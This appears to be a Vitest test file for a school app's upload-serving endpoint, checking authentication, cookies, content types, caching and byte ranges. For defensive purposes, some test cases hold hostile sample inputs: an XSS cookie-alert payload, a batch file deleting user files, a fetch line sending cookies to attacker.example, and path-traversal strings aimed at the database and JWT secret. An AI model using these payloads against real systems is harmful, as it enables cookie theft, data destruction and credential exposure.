import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { FileRecord } from '../../contract/records/file-record.ts';
import { loginMessages } from '../../contract/strings/validation.ts';
import { formOf, startTestApi, student, type TestApi } from '../testing/api-harness.ts';
import { sampleDocx, samplePdf, samplePng } from '../testing/sample-files.ts';

let t: TestApi;
let tutorToken: string;
beforeEach(async () => {
  t = await startTestApi();
  tutorToken = await t.tokenFor('tutor');
});
afterEach(() => t.close());

const details = { date: '22/Nov/2026', title: 'Week 3', description: 'Read it before class.' };

async function uploaded(bytes: Buffer<ArrayBuffer>, name: string): Promise<FileRecord> {
  const response = await t.send('POST', '/tutor/home/notes', formOf(details, { bytes, name }), tutorToken);
  expect(response.status).toBe(201);
  return (await response.json()) as FileRecord;
}

/** The API sees paths without the gateway's `/api`: `uploads/x` is fetched at `/uploads/x`. */
const fetchFile = (record: FileRecord, headers: Record<string, string> = {}) => t.api.request(`/${record.filePath}`, { headers });

/** Logs the student in (made first, unless `existing`) and answers the file cookie the login set, as a browser keeps it. */
async function studentCookie({ existing = false } = {}): Promise<string> {
  if (!existing) await t.createUser('student');
  const response = await t.post('/student/login', { email: student.email, password: student.password });
  const cookie = response.headers.get('Set-Cookie') ?? '';
  expect(cookie).toMatch(/^studyhall_files=[^;]+;/);
  return cookie.split(';')[0] as string;
}

describe('GET /uploads/{name}', () => {
  it('refuses a visitor with neither token nor cookie', async () => {
    const record = await uploaded(samplePdf(), 'week3.pdf');
    const response = await fetchFile(record);
    expect(response.status).toBe(401);
    expect(response.headers.get('Cache-Control')).toBe('no-store');
  });

  it('serves a logged-in user with the bearer token', async () => {
    const pdf = samplePdf();
    const record = await uploaded(pdf, 'week3.pdf');
    const response = await fetchFile(record, { Authorization: `Bearer ${tutorToken}` });
    expect(response.status).toBe(200);
    expect(Buffer.from(await response.arrayBuffer())).toEqual(pdf);
  });

  it('serves a logged-in user with the cookie the login set: HttpOnly, SameSite=Strict, for /api/uploads only, one day', async () => {
    const record = await uploaded(samplePdf(), 'week3.pdf');
    await t.createUser('student');
    const login = await t.post('/student/login', { email: student.email, password: student.password });
    const setCookie = login.headers.get('Set-Cookie') ?? '';
    expect(setCookie).toMatch(/HttpOnly/);
    expect(setCookie).toMatch(/SameSite=Strict/);
    expect(setCookie).toMatch(/Path=\/api\/uploads/);
    expect(setCookie).toMatch(/Max-Age=86400/);
    expect(setCookie).not.toMatch(/Secure/);
    const response = await fetchFile(record, { Cookie: setCookie.split(';')[0] as string });
    expect(response.status).toBe(200);
  });

  it('renews the cookie when the shell checks the session with the token alone', async () => {
    const record = await uploaded(samplePdf(), 'week3.pdf');
    const check = await t.request('GET', '/session', undefined, tutorToken);
    expect(check.status).toBe(200);
    const cookie = (check.headers.get('Set-Cookie') ?? '').split(';')[0] as string;
    expect(cookie).toBe(`studyhall_files=${tutorToken}`);
    expect((await fetchFile(record, { Cookie: cookie })).status).toBe(200);
  });

  it('marks the cookie Secure when the school is served over HTTPS', async () => {
    const secure = await startTestApi({ publicUrl: new URL('https://studyhall.school.test') });
    try {
      await secure.createUser('student');
      const login = await secure.post('/student/login', { email: student.email, password: student.password });
      expect(login.headers.get('Set-Cookie')).toMatch(/; Secure/);
    } finally {
      await secure.close();
    }
  });

  it('refuses a blocked student’s cookie at once, and serves it again once unblocked and logged in', async () => {
    const record = await uploaded(samplePdf(), 'week3.pdf');
    const cookie = await studentCookie();
    const user = await t.store.users.findByEmail(student.email);
    await t.store.users.setBlocked(user?._id ?? '', true, new Date());
    const refused = await fetchFile(record, { Cookie: cookie });
    expect(refused.status).toBe(401);
    expect(await refused.json()).toEqual({ message: loginMessages.blocked });
    await t.store.users.setBlocked(user?._id ?? '', false, new Date());
    expect((await fetchFile(record, { Cookie: await studentCookie({ existing: true }) })).status).toBe(200);
  });

  it('stops honouring the cookie after logout, which also clears it', async () => {
    const record = await uploaded(samplePdf(), 'week3.pdf');
    const cookie = await studentCookie();
    const token = cookie.split('=')[1] as string;
    const logout = await t.request('DELETE', '/session', undefined, token);
    expect(logout.status).toBe(204);
    expect(logout.headers.get('Set-Cookie')).toMatch(/^studyhall_files=;.*Max-Age=0/);
    expect((await fetchFile(record, { Cookie: cookie })).status).toBe(401);
  });

  it('serves images and PDF inline, with their checked type, never to be sniffed', async () => {
    const png = await uploaded(samplePng(), 'diagram.png');
    const response = await fetchFile(png, { Authorization: `Bearer ${tutorToken}` });
    expect(response.headers.get('Content-Type')).toBe('image/png');
    expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
    expect(response.headers.get('Content-Disposition')).toBe('inline; filename="diagram.png"');
  });

  it('serves anything else as a download under its original name, non-ASCII included', async () => {
    const docx = await uploaded(sampleDocx(), 'Übung 3 – Brüche.docx');
    const response = await fetchFile(docx, { Authorization: `Bearer ${tutorToken}` });
    expect(response.headers.get('Content-Type')).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    expect(response.headers.get('Content-Disposition')).toBe(
      `attachment; filename="Übung 3 ? Brüche.docx"; filename*=UTF-8''%C3%9Cbung%203%20%E2%80%93%20Br%C3%BCche.docx`,
    );
  });

  it.each([
    ['lesson.html', 'Fractions, week 3\n<img src=x onerror=alert(document.cookie)>\n', 'lesson.txt'],
    ['run-me.bat', '@echo off\r\ndel /q C:\\Users\\*\r\n', 'run-me.txt'],
    ['steal.js', 'fetch("https://attacker.example/?" + document.cookie)\n', 'steal.txt'],
    ['Shortcut.url', '[InternetShortcut]\nURL=file:///C:/Windows/System32/calc.exe\n', 'Shortcut.txt'],
  ])('names a text file uploaded as %s for what it is, in the list and in the download', async (name, text, downloaded) => {
    const record = await uploaded(Buffer.from(text), name);
    expect(record.fileName).toBe(downloaded);
    const response = await fetchFile(record, { Authorization: `Bearer ${tutorToken}` });
    expect(response.headers.get('Content-Type')).toBe('text/plain; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe(`attachment; filename="${downloaded}"`);
  });

  it('names a file kept before names followed kinds for its kind, in the list and in the download', async () => {
    const name = 'keptBeforeTheRuleAAAAA.txt';
    writeFileSync(join(t.files.dir, name), 'Kept before the rule');
    await t.store.uploads.add({ name, fileName: 'kept earlier.html', mime: 'text/plain; charset=utf-8', size: 20 }, new Date());
    await t.store.notes.create({ ...details, day: '2026-11-22', upload: name }, new Date());
    const listed = (await (await t.request('GET', '/student/home/notes', undefined, tutorToken)).json()) as { notes: FileRecord[] };
    expect(listed.notes.map((note) => note.fileName)).toEqual(['kept earlier.txt']);
    const response = await t.api.request(`/uploads/${name}`, { headers: { Authorization: `Bearer ${tutorToken}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="kept earlier.txt"');
  });

  it('lets the browser keep it privately only if it asks again each time, and answers 304 to a matching ETag', async () => {
    const record = await uploaded(samplePdf(), 'week3.pdf');
    const auth = { Authorization: `Bearer ${tutorToken}` };
    const first = await fetchFile(record, auth);
    expect(first.headers.get('Cache-Control')).toBe('private, no-cache');
    const etag = first.headers.get('ETag') ?? '';
    expect(etag).toMatch(/^".+"$/);
    const again = await fetchFile(record, { ...auth, 'If-None-Match': etag });
    expect(again.status).toBe(304);
    expect(await again.text()).toBe('');
  });

  it('answers a byte range with 206, and an impossible one with 416', async () => {
    const pdf = samplePdf();
    const record = await uploaded(pdf, 'week3.pdf');
    const auth = { Authorization: `Bearer ${tutorToken}` };
    const part = await fetchFile(record, { ...auth, Range: 'bytes=0-3' });
    expect(part.status).toBe(206);
    expect(part.headers.get('Content-Range')).toBe(`bytes 0-3/${pdf.length}`);
    expect(await part.text()).toBe('%PDF');
    const tail = await fetchFile(record, { ...auth, Range: 'bytes=-5' });
    expect(Buffer.from(await tail.arrayBuffer())).toEqual(pdf.subarray(-5));
    const beyond = await fetchFile(record, { ...auth, Range: `bytes=${pdf.length + 10}-` });
    expect(beyond.status).toBe(416);
    expect(beyond.headers.get('Content-Range')).toBe(`bytes */${pdf.length}`);
  });

  it.each([
    '/uploads/..%2Fstudyhall.sqlite',
    '/uploads/%2e%2e%2fjwt-secret',
    '/uploads/..%5Cjwt-secret',
    '/uploads/studyhall.sqlite',
    '/uploads/a/b',
    '/uploads/',
    '/uploads/AAAAAAAAAAAAAAAAAAAAAA.pdf',
  ])('answers 404 for %s, even to a logged-in user', async (path) => {
    await uploaded(samplePdf(), 'week3.pdf');
    const response = await t.api.request(path, { headers: { Authorization: `Bearer ${tutorToken}` } });
    expect(response.status).toBe(404);
  });

  it('answers 404 for a temporary file that exists on disk', async () => {
    const temporary = t.files.temporaryPath();
    await import('node:fs/promises').then((fs) => fs.writeFile(temporary, samplePdf()));
    const name = temporary.split('/').at(-1) as string;
    const response = await t.api.request(`/uploads/${name}`, { headers: { Authorization: `Bearer ${tutorToken}` } });
    expect(response.status).toBe(404);
  });
});
